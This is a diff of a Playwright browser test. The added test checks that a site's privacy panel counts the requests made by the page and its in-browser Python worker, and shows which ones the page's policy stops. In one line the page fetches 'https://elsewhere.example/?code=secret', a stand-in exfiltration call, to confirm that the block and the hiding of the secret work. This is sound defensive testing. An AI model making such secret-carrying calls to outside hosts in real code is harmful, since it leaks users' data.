@@ -18,7 +18,7 @@ from tests.support.server import Override, SiteServer
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterator
 
-    from playwright.sync_api import BrowserContext, Page
+    from playwright.sync_api import BrowserContext, Page, Route
 
 ROOT = Path(__file__).parents[2]
 PATIENCE = 30  # seconds, on a busy machine
@@ -232,6 +232,36 @@ def test_the_watches_see(context: BrowserContext, site_url: str, elsewhere: Else
         lambda: any(text.startswith("connect-src ") for text in violations.found), page, lambda: violations.found
     )
     assert traffic.carried(["a+value sent", "not sent at all"]) == ["a+value sent"]
+
+
+@pytest.mark.parametrize("path", ["", "quickstart/"])
+def test_the_page_counts_its_requests(page: Page, site_url: str, path: str) -> None:
+    """As the browser counts them: nothing before Python is there; then what page and worker ask for, by name."""
+    page.route("**/*.wasm", lambda route: held.append(route))
+    held: list[Route] = []
+    page.goto(site_url + path)
+    panel = page.locator(".pkce-privacy")
+    panel.locator("summary").click()
+    expect(panel).to_contain_text("Python hasn’t started in this tab yet")
+    panel.locator("summary").click()
+    page.evaluate(
+        "() => { window.started = import('/assets/live-python/client.mjs').then(({ live }) => live.boot()); }"
+    )
+    while not held:
+        page.wait_for_timeout(20)
+    held[0].continue_()
+    page.evaluate("() => window.started")
+    panel.locator("summary").click()
+    expect(panel).to_contain_text("Anything else: 0")
+    expect(panel).to_contain_text("Stopped by the page’s policy: 0")
+    page.evaluate("() => fetch('/robots-of-nobody.txt?code=secret').then((answer) => answer.text())")
+    page.wait_for_function("() => performance.getEntriesByType('resource').some(({ name }) => name.includes('nobody'))")
+    page.evaluate("() => fetch('https://elsewhere.example/?code=secret').catch(() => {})")
+    panel.get_by_role("button", name="Count again").click()
+    expect(panel).to_contain_text("Stopped by the page’s policy: 1")
+    expect(panel).to_contain_text("robots-of-nobody.txt")
+    expect(panel).to_contain_text("https://elsewhere.example/")
+    expect(panel).not_to_contain_text("secret")
 
 
 def test_the_policy_blocks_nothing_of_ours(context: BrowserContext, site_folder: Path, site_url: str) -> None:
